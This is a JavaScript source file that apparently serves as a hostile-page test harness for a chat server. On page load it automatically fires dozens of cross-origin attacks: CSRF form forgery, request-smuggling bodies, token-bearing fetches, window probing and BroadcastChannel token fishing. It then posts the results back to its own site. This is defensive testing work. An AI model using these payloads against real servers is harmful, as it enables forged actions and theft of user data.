/* Everything that a web page can do to another server: each attack is one entry of `attacks`.
 *
 * `attackAll` starts them all, and then posts what each could read or see to its own site. `at` makes
 * an address at the node that names the attack, so that its arrival there can be told. It is the worst
 * case: the page is told (in its fragment: `{ui, token, site, name, next}`) where
 * the node is, and even its token.
 */
"use strict";

let ui, token, prefix, site;
const at = (attack, path) => `${ui}${path}${path.includes("?") ? "&" : "?"}by=${prefix}-${attack}`;
const room = (attack) => `/api/rooms/by-${prefix}-${attack}`;
const bearer = () => ({ Authorization: `Bearer ${token}` });
const read = async (response) => `${response.type} ${response.status} ${await (await response).text()}`;
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const smuggled = () =>
  `POST /api/rooms/smuggled HTTP/1.1\r\nHost: ${new URL(ui).host}\r\nAuthorization: Bearer ${token}\r\n\r\n`;

/** Put an element in the page; what it became when it was loaded, or was not. */
function element(tag, attributes) {
  return new Promise((done) => {
    const one = Object.assign(document.createElement(tag), { onload: () => done(seen(one)), onerror: () => done("refused") });
    for (const [name, value] of Object.entries(attributes)) one.setAttribute(name, value);
    document.body.append(one);
  });
}

function seen(one) {
  const inside = one.contentDocument ?? one.getSVGDocument?.();
  const rules = one.sheet && [...one.sheet.cssRules].map((rule) => rule.cssText).join();
  return `loaded ${inside?.documentElement?.innerText ?? ""} ${rules ?? ""} ${one.naturalWidth ?? ""}`;
}

/** A form, sent into a frame of its own or into a new window. */
async function form(attack, path, { enctype, target, fields, method = "post" }) {
  const one = document.createElement("form");
  Object.assign(one, { action: path.startsWith("http") ? path : at(attack, path), method, enctype, target });
  for (const [name, value] of Object.entries(fields)) {
    const input = Object.assign(document.createElement("textarea"), { name });
    input.value = value;
    one.append(input);
  }
  document.body.append(one);
  one.submit();
  await wait(1000);
  const other = target.startsWith("frame") ? document.querySelector(`[name=${target}]`).contentWindow : null;
  return other ? other.document.documentElement.innerText : "sent";
}

function frame(name) {
  const one = Object.assign(document.createElement("iframe"), { name });
  document.body.append(one);
  return name;
}

/** A window of the node's page, and all that its opener can try with it. */
async function opened(address) {
  const other = open(address, "_blank");
  const patience = ui === location.origin ? 500 : 10_000; // only another origin's window is taken from us
  for (const started = Date.now(); !other.closed && Date.now() - started < patience; ) await wait(100);
  const found = [other.closed ? "closed" : "open", `frames ${other.length}`];
  for (const look of [() => other.document.body.innerText, () => other.location.href, () => other.sessionStorage.length])
    try {
      found.push(look());
    } catch (error) {
      found.push(error.name);
    }
  other.postMessage({ token: "x".repeat(43) }, "*");
  return found.join(" | ");
}

const xhr = (method, address, body, headers = {}) =>
  new Promise((done) => {
    const one = new XMLHttpRequest();
    one.open(method, address);
    one.withCredentials = true;
    for (const [name, value] of Object.entries(headers)) one.setRequestHeader(name, value);
    one.onload = () => done(`${one.status} ${one.responseText}`);
    one.onerror = () => done("refused");
    one.send(body);
  });

const style = (css) => document.head.append(Object.assign(document.createElement("style"), { textContent: css }));
const json = { "Content-Type": "application/json" };

const attacks = {
  "fetch": (a) => fetch(at(a, "/api/info")).then(read),
  "fetch-no-cors": (a) => fetch(at(a, "/api/info"), { mode: "no-cors", credentials: "include" }).then(read),
  "fetch-token": (a) => fetch(at(a, "/api/info"), { headers: bearer() }).then(read),
  "fetch-token-no-cors": (a) => fetch(at(a, "/api/info"), { mode: "no-cors", headers: bearer() }).then(read),
  "fetch-same-origin": (a) => fetch(at(a, "/api/info"), { mode: "same-origin", headers: bearer() }).then(read),
  "fetch-page": (a) => fetch(at(a, "/")).then(read),
  "fetch-script": (a) => fetch(at(a, "/main.js"), { mode: "no-cors" }).then(read),
  "fetch-head": (a) => fetch(at(a, "/api/info"), { method: "HEAD" }).then(read),
  "fetch-post": (a) => fetch(at(a, room(a)), { method: "POST", mode: "no-cors" }).then(read),
  "fetch-post-token": (a) => fetch(at(a, room(a)), { method: "POST", headers: bearer() }).then(read),
  "fetch-post-text": (a) =>
    fetch(at(a, "/api/rooms/tea/message"), { method: "POST", mode: "no-cors", body: '{"content": "forged"}' }).then(read),
  "fetch-post-json": (a) =>
    fetch(at(a, "/api/rooms/tea/message"), { method: "POST", headers: { ...json, ...bearer() }, body: '{"content": "forged"}' }).then(read),
  "fetch-put": (a) => fetch(at(a, "/api/info"), { method: "PUT", headers: { ...json, ...bearer() }, body: '{"username": "forged"}' }).then(read),
  "fetch-delete": (a) => fetch(at(a, "/api/rooms/tea"), { method: "DELETE", headers: bearer() }).then(read),
  "fetch-smuggle": (a) => fetch(at(a, room(a)), { method: "POST", mode: "no-cors", body: new Blob([smuggled()]) }).then(read),
  "fetch-smuggle-get": (a) =>
    fetch(at(a, "/api/nothing"), { method: "POST", mode: "no-cors", body: new Blob([`\r\n\r\n${smuggled()}`]) }).then(read),
  "fetch-keepalive": (a) => fetch(at(a, room(a)), { method: "POST", mode: "no-cors", keepalive: true, body: "x" }).then(read),
  "fetch-redirected": (a) =>
    fetch(`${site}/redirect/${encodeURIComponent(at(a, room(a)))}`, { method: "POST", mode: "no-cors", body: "{}" }).then(read),
  "fetch-search": (a) => fetch(at(a, "/api/search?q=secret"), { headers: bearer() }).then(read),
  "fetch-code": (a) => fetch(at(a, "/api/session"), { method: "POST", mode: "no-cors", body: '{"code": "x"}' }).then(read),
  "xhr": (a) => xhr("GET", at(a, "/api/users")),
  "xhr-post": (a) => xhr("POST", at(a, room(a)), "{}"),
  "xhr-token": (a) => xhr("GET", at(a, "/api/users"), null, bearer()),
  "beacon": (a) => navigator.sendBeacon(at(a, room(a)), "{}"),
  "beacon-form": (a) => navigator.sendBeacon(at(a, room(a)), new URLSearchParams({ content: "forged" })),
  "beacon-json": (a) => navigator.sendBeacon(at(a, room(a)), new Blob(["{}"], { type: "application/json" })),
  "event-source": (a) =>
    new Promise((done) => {
      const source = new EventSource(at(a, "/api/events"), { withCredentials: true });
      const end = (said) => (source.close(), done(said));
      source.onmessage = (event) => end(event.data);
      source.onopen = () => end("opened");
      source.onerror = () => end("refused");
    }),
  "web-socket": (a) =>
    new Promise((done) => {
      const socket = new WebSocket(at(a, "/api/events").replace("http:", "ws:"));
      socket.onopen = () => done("opened");
      socket.onerror = () => done("refused");
    }),
  "script": (a) => element("script", { src: at(a, "/api/rooms") }),
  "script-of-the-page": (a) => element("script", { src: at(a, "/main.js") }),
  "script-module": (a) => element("script", { src: at(a, "/store.js"), type: "module" }),
  "import": (a) => import(at(a, "/store.js")).then((module) => JSON.stringify(module.state)),
  "worker": async (a) => void new Worker(at(a, "/main.js")),
  "worker-import": (a) =>
    new Promise((done) => {
      const source = `try { importScripts("${at(a, "/sse.js")}"); postMessage("ran") } catch (error) { postMessage(error.name) }`;
      const worker = new Worker(URL.createObjectURL(new Blob([source])));
      worker.onmessage = (event) => done(event.data);
    }),
  "service-worker": (a) => navigator.serviceWorker.register(at(a, "/main.js")).then(() => "registered"),
  "style": (a) => element("link", { rel: "stylesheet", href: at(a, "/style.css") }),
  "style-import": async (a) => style(`@import "${at(a, "/style.css")}";`),
  "font": async (a) => {
    style(`@font-face { font-family: "${a}"; src: url("${at(a, "/api/info")}") }`);
    return document.fonts.load(`12px "${a}"`).then(() => "loaded");
  },
  "background": async (a) => {
    style(`body { background: url("${at(a, "/api/info")}") }`);
    await wait(300);
  },
  "image": (a) => element("img", { src: at(a, "/icon.svg") }),
  "image-of-the-api": (a) => element("img", { src: at(a, "/api/info"), crossorigin: "use-credentials" }),
  "image-redirected": (a) => element("img", { src: `${site}/redirect/${encodeURIComponent(at(a, "/icon.svg"))}` }),
  "frame": (a) => element("iframe", { src: at(a, "/") }),
  "frame-token": (a) => element("iframe", { src: `${at(a, "/")}#token=${token}` }),
  "frame-api": (a) => element("iframe", { src: at(a, "/api/info") }),
  "frame-sandboxed": (a) => element("iframe", { src: at(a, "/"), sandbox: "allow-scripts" }),
  "object": (a) => element("object", { data: at(a, "/"), type: "text/html" }),
  "embed": (a) => element("embed", { src: at(a, "/"), type: "text/html" }),
  "video": async (a) => {
    element("video", { src: at(a, "/api/rooms"), preload: "auto" });
    await wait(500);
  },
  "input-image": (a) => element("input", { type: "image", src: at(a, "/icon.svg") }),
  "form": (a) => form(a, room(a), { enctype: "application/x-www-form-urlencoded", target: frame("frame1"), fields: { content: "forged" } }),
  "form-text": (a) =>
    form(a, "/api/rooms/tea/message", { enctype: "text/plain", target: frame("frame2"), fields: { '{"content": "forged", "username': '": "forged"}' } }),
  "form-multipart": (a) => form(a, room(a), { enctype: "multipart/form-data", target: frame("frame3"), fields: { content: smuggled() } }),
  "form-get": (a) => form(a, "/api/rooms", { target: frame("frame4"), fields: { by: `${prefix}-${a}` }, method: "get" }),
  "form-window": (a) => form(a, room(a), { enctype: "text/plain", target: "_blank", fields: { "{}": "" } }),
  "form-page": (a) => form(a, "/", { enctype: "text/plain", target: "_blank", fields: { "{}": "" } }),
  "form-redirected": (a) =>
    form(a, `${site}/redirect/${encodeURIComponent(at(a, room(a)))}`, { enctype: "text/plain", target: "_blank", fields: { "{}": "" } }),
  "window": (a) => opened(at(a, "/")),
  "window-token": (a) => opened(`${at(a, "/")}#token=${token}`),
  "window-api": (a) => opened(at(a, "/api/info")),
  "window-export": (a) => opened(at(a, "/api/rooms/tea/messages.jsonl")),
  "window-moved": async (a) => {
    const other = open("about:blank", "_blank");
    await wait(200);
    other.location = at(a, "/api/users");
    await wait(800);
    return other.document.body.innerText;
  },
  "refreshed": async (a) => {
    const other = open("about:blank", "_blank");
    await wait(200);
    other.document.write(`<meta http-equiv="refresh" content="0; url=${at(a, "/api/rooms")}">`);
    other.document.close();
    await wait(800);
    return other.document.body.innerText;
  },
  "download": async (a) => {
    const link = Object.assign(document.createElement("a"), { href: at(a, "/api/rooms/tea/messages.jsonl"), download: "stolen", target: "_blank" });
    document.body.append(link);
    link.click();
  },
  "ping": async (a) => {
    const link = Object.assign(document.createElement("a"), { href: "#", ping: at(a, room(a)) });
    document.body.append(link);
    link.click();
  },
  "prefetch": (a) => element("link", { rel: "prefetch", href: at(a, "/") }),
  "preload": (a) => element("link", { rel: "preload", as: "fetch", crossorigin: "anonymous", href: at(a, "/api/info") }),
  "module-preload": (a) => element("link", { rel: "modulepreload", href: at(a, "/api.js") }),
  "speculated": async (a) => {
    const rules = { prefetch: [{ source: "list", urls: [at(a, "/api/info")] }], prerender: [{ source: "list", urls: [at(a, "/")] }] };
    document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify(rules) }));
    await wait(500);
  },
  "policy-report": async (a) => {
    element("iframe", { src: `${site}/policy/${encodeURIComponent(at(a, room(a)))}` });
    await wait(500);
  },
  "broadcast": (a) =>
    new Promise((done) => {
      const channel = new BroadcastChannel("cryptochat.session");
      channel.onmessage = (event) => done(JSON.stringify(event.data));
      channel.postMessage({ ask: true });
      channel.postMessage({ token: "x".repeat(43) });
      setTimeout(done, 1000, "nothing");
    }),
  "cookies": async () => `${document.cookie} ${JSON.stringify(await navigator.storage?.estimate?.())}`,
  "timings": async () => {
    await wait(2000);
    return JSON.stringify(performance.getEntriesByType("resource").map((one) => [one.name.slice(-30), one.transferSize, one.responseStatus]));
  },
};

async function attackAll() {
  const given = JSON.parse(decodeURIComponent(location.hash.slice(1)));
  ({ ui, token, site, name: prefix } = given);
  const late = async () => (await wait(3000), "nothing");
  const one = async ([attack, run]) => {
    const patient = attack.startsWith("window");
    const found = await Promise.race([(async () => run(attack))(), ...(patient ? [] : [late()])]).catch((error) => `${error.name}: ${error.message}`);
    return [attack, String(found)];
  };
  const found = Object.fromEntries(await Promise.all(Object.entries(attacks).map(one)));
  await fetch("/hostile", { method: "POST", body: JSON.stringify({ name: prefix, ...found }) });
  if (given.next) open(given.next, "_blank");
}

addEventListener("load", () => setTimeout(attackAll, 100));
